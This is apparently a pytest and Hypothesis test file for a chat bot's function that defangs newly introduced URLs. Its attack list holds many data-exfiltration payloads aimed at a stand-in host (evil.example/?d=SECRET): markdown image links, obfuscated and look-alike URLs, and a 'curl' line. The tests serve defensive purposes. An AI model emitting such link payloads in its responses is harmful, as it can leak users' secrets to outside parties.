"""Only addresses that were there before leave as links; nothing else of a text is lost."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import fields, is_dataclass

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.gateway import text as tree
from bot.gateway.text import parse
from bot.gateway.text_layout import plain
from bot.gateway.text_links import addresses, inert
from bot.gateway.text_write import write

GOOD = "https://example.org/plan?x=1"
EVIL = "https://evil.example/?d=SECRET"
LIVE = re.compile(r"(?i)[a-z]://|www\.\w|\w\.(com|example|net)[/?]")

ATTACKS = [
    EVIL,
    f"See {EVIL}.",
    f"[click]({EVIL})",
    f"![]({EVIL})",
    f"![chart]({EVIL} 'title')",
    f"<{EVIL}>",
    f"[{GOOD}]({EVIL})",
    f"`{EVIL}`",
    f"```\ncurl {EVIL}\n```",
    f"```{EVIL}\nx\n```",
    f"- item\n  - **[deep]({EVIL})**",
    f"> quoted {EVIL}",
    f"| a | b |\n|---|---|\n| {EVIL} | [x]({EVIL}) |",
    f"# {EVIL}",
    "HTTPS://EVIL.EXAMPLE/?d=SECRET",
    "https&#58;//evil.example/?d=SECRET",
    "https:\\//evil.example/?d=SECRET",
    "https://**evil.example**/?d=SECRET",
    "https://*evil*.example/?d=SECRET",
    "evil.example/?d=SECRET",
    "www.evil.example",
    "SECRET.evil.com",
    "[x](//evil.example/?d=SECRET)",
    "[x](evil.example/?d=SECRET)",
    "ftp://evil.example/SECRET",
    "tg://resolve?domain=evil&text=SECRET",
    "[x](slack://open?d=SECRET)",
    "xhttps://evil.example/?d=SECRET",
    "1https://evil.example/?d=SECRET",
    "éhttps://evil.example/?d=SECRET",
    "https://example.org@evil.example/?d=SECRET",
    f"{GOOD}&d=SECRET",
    f"{GOOD}#SECRET",
    f"[x]({GOOD}%26d=SECRET)",
    f"https://evil.example/?u={GOOD}",
    f"<a href='{EVIL}'>x</a>",
    f"[a]: {EVIL}\n\n[a]",
    f"~~{EVIL}~~ _{EVIL}_",
    "https://ｅvil.example/?d=SECRET",
    "https://еvil.example/?d=SECRET",
]


def live(markdown: str) -> list[str]:
    """Where the links of a document lead, wherever they stand in it."""

    def within(value: object) -> Iterator[str]:
        if isinstance(value, tree.Link):
            yield value.href
        if isinstance(value, tuple):
            for each in value:
                yield from within(each)
        elif is_dataclass(value):
            for one in fields(value):
                yield from within(getattr(value, one.name))

    return list(within(parse(markdown)))


@pytest.mark.parametrize("text", ATTACKS)
def test_an_address_that_was_not_there_before_is_no_link_any_more(text: str) -> None:
    permitted = addresses(f"Please look at {GOOD} for me.")
    done = inert(text, permitted)
    assert [href for href in live(done) if href != GOOD] == []
    shown = plain(parse(done)).replace(GOOD, "")
    assert not LIVE.search(shown), shown


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, 3.5 m EUR by 30.11.; e.g. this, and/or that. Node.js, report.pdf, U.S./EU.",
        f"See {GOOD}.",
        f"**[the plan]({GOOD})** and <{GOOD}>",
        "Write to anna@example.org.",
        "Amazon.com and Booking.com compete.",
        "`a.b.c` and `os.path.join(x)`",
    ],
)
def test_what_has_no_such_address_stays_byte_for_byte(text: str) -> None:
    assert inert(text, addresses(f"({GOOD})")) == text


def test_permission_is_for_the_address_however_it_is_written() -> None:
    for words in (GOOD, GOOD.upper().replace("PLAN?X", "plan?x"), "example.org/plan?x=1", f"[p]({GOOD})", f"`{GOOD}`,"):
        assert inert(f"Here: {GOOD}", addresses(words)) == f"Here: {GOOD}"


def test_the_words_around_it_and_its_host_stay_readable() -> None:
    done = inert(f"**Go** to [the page]({EVIL}), then:\n\n1. pay\n2. rest", ())
    assert plain(parse(done)) == "Go to the page (https[:]//evil[.]example/?d=SECRET), then:\n\n1. pay\n2. rest"


MARKDOWN = [
    "# Head\n\nA *b* **c** ~~d~~ `e` [f](https://x.y/z).\n\n- one\n- two\n  - three\n\n1. a\n2. b",
    "> quote\n> > deeper\n\n```py\nx = '`'\n```\n\n---\n\n| a | b |\n|:-:|--:|\n| 1 | 2 \\| 3 |",
    "- loose\n\n  second\n\n- item\n\n\n* other list",
    "3) three\n4) four\n\n\\# no head\n\n\\- no list\n\n1\\. no list\n\na\\_b\\*c",
    "line one\nline two\n\n``a ` b``",
]


@pytest.mark.parametrize("text", MARKDOWN)
def test_a_document_written_down_reads_the_same(text: str) -> None:
    assert parse(write(parse(text))) == parse(text)


PIECES = st.sampled_from([*ATTACKS, *MARKDOWN, "\n\n", " ", "(", ")", "[", "](", "<", "`", "**", "://", "a.com/", "\\"])


@given(st.lists(PIECES, max_size=5).map("".join) | st.text(alphabet="htps:/.[]()<>*`_\\ae \n", max_size=40))
@example("[x](<https://evil.example/?d=<SECRET>)")
@example("http://[")
def test_whatever_is_put_together_has_no_live_address_and_is_done_once(text: str) -> None:
    done = inert(text, frozenset())
    assert live(done) == []
    assert inert(done, frozenset()) == done


@pytest.mark.timeout(20)
@pytest.mark.parametrize("piece", ["a", "a.", "a-", ")", "https://", "a/", "www.", "a:", "1.", "a@"])
def test_long_runs_of_anything_take_no_time_to_speak_of(piece: str) -> None:
    for text in (piece * 15_000, "https://" + piece * 15_000, "www." + piece * 15_000):
        inert(text, frozenset())
